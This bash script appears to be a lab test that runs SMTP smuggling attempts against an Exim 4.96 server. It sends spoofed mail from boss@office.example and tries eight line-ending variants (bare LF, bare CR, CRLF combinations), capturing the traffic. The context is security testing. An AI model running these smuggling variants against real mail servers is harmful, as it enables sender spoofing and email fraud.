#!/bin/bash
# The same towards Exim 4.96.
set -euo pipefail
# shellcheck source=tests/lab/lib.sh
. "$(dirname "$0")/../lib.sh"
lab_open 81-smuggling-exim
lab_site_exim
lab_site_office
lab_dns
lab_exim_mx exim
lab_capture exim
smuggle() { lab_in office "$PY" "$LAB_CLIENTS/lookalike.py" 198.51.100.26 gw.office.example boss@office.example jane@example.net "$@"; }
smuggle lf.lf mail
smuggle lf.crlf mail
smuggle crlf.lf helo
smuggle cr.cr mail
smuggle crlf.cr rset
smuggle lf.cr mail
smuggle cr.lf mail
smuggle cr.crlf quit
lab_save pcap
